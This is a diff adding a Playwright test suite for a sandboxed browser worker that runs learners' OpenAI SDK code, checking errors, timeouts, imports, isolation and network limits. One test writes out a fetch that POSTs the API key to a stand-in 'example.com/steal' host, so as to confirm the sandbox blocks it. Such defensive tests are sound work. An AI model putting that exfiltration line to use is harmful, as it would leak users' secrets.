@@ -1,0 +1,271 @@
+/**
+ * The worker engine in real Chromium, driven directly through a bare test page (esbuild bundles
+ * the page and the worker; Playwright serves them on a fake origin). The Sandbox component's own
+ * specs cover the UI; this one covers what the engine does with the learner's code.
+ */
+import { expect, test, type Page } from '@playwright/test';
+import { build } from 'esbuild';
+import { scenarioKey, PRACTICE_BASE_URL } from '../../sandbox/practice-api/index.ts';
+import { getTemplate } from '../../sandbox/templates/index.ts';
+import type { SandboxFile } from '../../sandbox/engines/types.ts';
+import type { RunReport } from './engines-harness/page.ts';
+
+const ORIGIN = 'http://engines.test';
+let bundles: { page: string; worker: string };
+
+test.beforeAll(async () => {
+	const bundle = async (entry: string) => {
+		const result = await build({
+			entryPoints: [new URL(entry, import.meta.url).pathname],
+			bundle: true,
+			format: 'esm',
+			platform: 'browser',
+			write: false,
+			minify: true,
+			logLevel: 'silent',
+		});
+		return result.outputFiles[0]!.text;
+	};
+	bundles = {
+		page: await bundle('./engines-harness/page.ts'),
+		worker: await bundle('../../sandbox/engines/worker/worker-main.ts'),
+	};
+});
+
+async function open(page: Page): Promise<void> {
+	await page.route(`${ORIGIN}/**`, async (route) => {
+		const path = new URL(route.request().url()).pathname;
+		if (path === '/page.js')
+			return route.fulfill({ contentType: 'text/javascript', body: bundles.page });
+		if (path === '/worker.js')
+			return route.fulfill({ contentType: 'text/javascript', body: bundles.worker });
+		return route.fulfill({
+			contentType: 'text/html',
+			body: '<!doctype html><title>engines</title><body><script type="module" src="/page.js"></script>',
+		});
+	});
+	await page.goto(`${ORIGIN}/`);
+	await expect(page.locator('body')).toHaveAttribute('data-state', 'ready');
+}
+
+function run(
+	page: Page,
+	files: SandboxFile[],
+	env: Record<string, string> = {},
+	timeoutMs?: number,
+): Promise<RunReport> {
+	return page.evaluate(
+		([f, e, t]) =>
+			(
+				window as unknown as { harness: { run: (...a: unknown[]) => Promise<RunReport> } }
+			).harness.run(f, e, t),
+		[files, env, timeoutMs] as const,
+	);
+}
+
+const practiceEnv = () => ({
+	OPENAI_API_KEY: scenarioKey('valid'),
+	OPENAI_BASE_URL: PRACTICE_BASE_URL,
+});
+const project = (index: string, more: SandboxFile[] = []): SandboxFile[] => [
+	{ path: 'index.js', contents: index },
+	...more,
+];
+const template = (id: string) => getTemplate(id).files.map((file) => ({ ...file }));
+
+test.beforeEach(async ({ page }) => open(page));
+
+test('runs a lesson sample against the practice API and prints the reply', async ({ page }) => {
+	const report = await run(page, template('first-request'), practiceEnv());
+	expect(report.stderr).toBe('');
+	expect(report.result).toMatchObject({ exitCode: 0, reason: 'exit' });
+	expect(report.stdout).toMatch(/\S.*\nTokens used: \d+\n$/);
+});
+
+test('streams a reply as deltas, one line per event', async ({ page }) => {
+	const report = await run(page, template('stream-response'), practiceEnv());
+	expect(report.stderr).toBe('');
+	const pieces = report.chunks.filter((chunk) => chunk.text.startsWith('piece:'));
+	expect(pieces.length).toBeGreaterThan(2);
+	expect(report.stdout).toMatch(/Done\. Tokens used: \d+\n$/);
+});
+
+test('shows a syntax error with its file, line and column', async ({ page }) => {
+	const report = await run(page, project("const a = 1;\nconst = 5;\nconsole.log('never');\n"));
+	expect(report.result).toMatchObject({ exitCode: 1, reason: 'error' });
+	expect(report.stdout).toBe('');
+	expect(report.stderr).toContain('/project/index.js:2\nconst = 5;\n      ^\n');
+	expect(report.stderr).toContain("SyntaxError: Unexpected token '='");
+});
+
+test('a thrown error prints its stack with file names and exits 1', async ({ page }) => {
+	const report = await run(
+		page,
+		project("console.log('before');\nfunction fail() { throw new Error('boom'); }\nfail();\n"),
+	);
+	expect(report.result).toMatchObject({ exitCode: 1, reason: 'error' });
+	expect(report.stdout).toBe('before\n');
+	expect(report.stderr).toMatch(
+		/^Error: boom\n    at fail \(file:\/\/\/project\/index\.js:2:\d+\)/,
+	);
+	expect(report.stderr).not.toMatch(/blob:|worker\.js/);
+});
+
+test('an SDK error prints as Node prints it, with its properties', async ({ page }) => {
+	const badKey = 'sk-proj-' + 'PRACTICE' + 'x'.repeat(40);
+	const report = await run(page, template('first-request'), {
+		OPENAI_API_KEY: badKey,
+		OPENAI_BASE_URL: PRACTICE_BASE_URL,
+	});
+	expect(report.result.exitCode).toBe(1);
+	expect(report.stderr).toMatch(/^AuthenticationError: 401 Incorrect API key provided: sk-proj-/);
+	expect(report.stderr).toContain('status: 401');
+	expect(report.stderr).toMatch(/requestID: 'req_/);
+	expect(report.stderr).toContain("code: 'invalid_api_key'");
+});
+
+test('Stop ends an infinite loop', async ({ page }) => {
+	const running = run(page, project("console.log('looping');\nwhile (true) {}\n"));
+	await expect(page.locator('body')).toHaveAttribute('data-output', '1');
+	await page.evaluate(() => (window as unknown as { harness: { stop(): void } }).harness.stop());
+	const report = await running;
+	expect(report.result).toMatchObject({ exitCode: 130, reason: 'stopped' });
+	// The next run gets a fresh worker and works.
+	expect((await run(page, project("console.log('again')"))).stdout).toBe('again\n');
+});
+
+test('the time limit ends runaway code', async ({ page }) => {
+	const report = await run(page, project('while (true) {}\n'), {}, 1_000);
+	expect(report.result).toMatchObject({ exitCode: 124, reason: 'timeout' });
+	expect(report.result.durationMs).toBeGreaterThanOrEqual(1_000);
+});
+
+test('node: built-ins fail with a message that names what is supported', async ({ page }) => {
+	const report = await run(page, project("import fs from 'node:fs';\nconsole.log(fs);\n"));
+	expect(report.result.exitCode).toBe(1);
+	expect(report.stderr).toContain("The worker engine cannot load 'node:fs' (index.js:1:16)");
+	expect(report.stdout).toBe('');
+	expect(report.stderr).toContain("'openai'");
+});
+
+test('fetch to any host but the practice API and api.openai.com is refused', async ({ page }) => {
+	let leaked = false;
+	await page.context().route('https://example.com/**', (route) => {
+		leaked = true;
+		return route.abort();
+	});
+	const report = await run(
+		page,
+		project(
+			"await fetch('https://example.com/steal', { method: 'POST', body: process.env.OPENAI_API_KEY });\n",
+		),
+		practiceEnv(),
+	);
+	expect(report.result.exitCode).toBe(1);
+	expect(report.stderr).toContain(
+		'TypeError: fetch failed: the sandbox refused a request to https://example.com',
+	);
+	expect(report.stderr).toContain('api.openai.com');
+	expect(leaked).toBe(false);
+});
+
+test('live requests go to api.openai.com directly', async ({ page }) => {
+	let auth = '';
+	await page.context().route('https://api.openai.com/**', async (route) => {
+		if (route.request().method() === 'OPTIONS') {
+			return route.fulfill({
+				status: 204,
+				headers: {
+					'access-control-allow-origin': '*',
+					'access-control-allow-headers': '*',
+					'access-control-allow-methods': '*',
+				},
+			});
+		}
+		auth = (await route.request().allHeaders()).authorization ?? '';
+		return route.fulfill({
+			status: 200,
+			headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' },
+			body: JSON.stringify({
+				object: 'list',
+				data: [{ id: 'gpt-live', object: 'model', created: 0, owned_by: 'openai' }],
+			}),
+		});
+	});
+	const code =
+		"import OpenAI from 'openai';\nconst models = await new OpenAI().models.list();\nconsole.log(models.data.map((m) => m.id));\n";
+	const report = await run(page, project(code), { OPENAI_API_KEY: 'sk-live-test-key-1234' });
+	expect(report.stderr).toBe('');
+	expect(report.stdout).toBe("[ 'gpt-live' ]\n");
+	expect(auth).toBe('Bearer sk-live-test-key-1234');
+});
+
+test('relative imports, .env values and process work like Node', async ({ page }) => {
+	const files = project(
+		[
+			"import { greet } from './lib/greet.js';",
+			"import process, { argv } from 'node:process';",
+			'console.log(greet(process.env.NAME), process.env.FROM_FILE);',
+			"console.error('to stderr');",
+			"process.stdout.write('no newline');",
+			'console.log(argv.length, { nested: { deep: [1, 2] } });',
+			'process.exitCode = 3;',
+		].join('\n'),
+		[
+			{
+				path: 'lib/greet.js',
+				contents:
+					"import { suffix } from './suffix.js';\nexport const greet = (name) => `Hello, ${name}${suffix}`;\n",
+			},
+			{ path: 'lib/suffix.js', contents: "export const suffix = '!';\n" },
+			{ path: '.env', contents: 'NAME=from-file\nFROM_FILE="only in .env"\n' },
+			{
+				path: 'package.json',
+				contents: JSON.stringify({
+					type: 'module',
+					scripts: { start: 'node --env-file=.env index.js' },
+				}),
+			},
+		],
+	);
+	const report = await run(page, files, { NAME: 'Ada' });
+	expect(report.stdout).toBe(
+		'Hello, Ada! only in .env\nno newline2 { nested: { deep: [ 1, 2 ] } }\n',
+	);
+	expect(report.stderr).toBe('to stderr\n');
+	expect(report.result).toMatchObject({ exitCode: 3, reason: 'exit' });
+});
+
+test('circular imports are reported, not hung on', async ({ page }) => {
+	const files = project("import './a.js';\n", [
+		{ path: 'a.js', contents: "import './b.js';\n" },
+		{ path: 'b.js', contents: "import './a.js';\n" },
+	]);
+	const report = await run(page, files);
+	expect(report.result.exitCode).toBe(1);
+	expect(report.stderr).toContain('Circular import: a.js → b.js → a.js');
+});
+
+test('runs are isolated, process.exit stops at once, and warm runs start fast', async ({
+	page,
+}) => {
+	await page.evaluate(() =>
+		(window as unknown as { harness: { boot(): Promise<void> } }).harness.boot(),
+	);
+	const first = await run(
+		page,
+		project(
+			"globalThis.leak = 1;\nconsole.log('one');\nprocess.exit(0);\nconsole.log('after exit');\n",
+		),
+	);
+	expect(first.stdout).toBe('one\n');
+	expect(first.result).toMatchObject({ exitCode: 0, reason: 'exit' });
+	// boot() resolves once the worker warmed up after the last run is ready.
+	await page.evaluate(() =>
+		(window as unknown as { harness: { boot(): Promise<void> } }).harness.boot(),
+	);
+	const second = await run(page, project('console.log(typeof globalThis.leak);\n'));
+	expect(second.stdout).toBe('undefined\n');
+	// The aim is < 150 ms (typically ~20 ms here); the margin absorbs a loaded 2-core machine.
+	expect(second.firstOutputMs).toBeLessThan(300);
+});
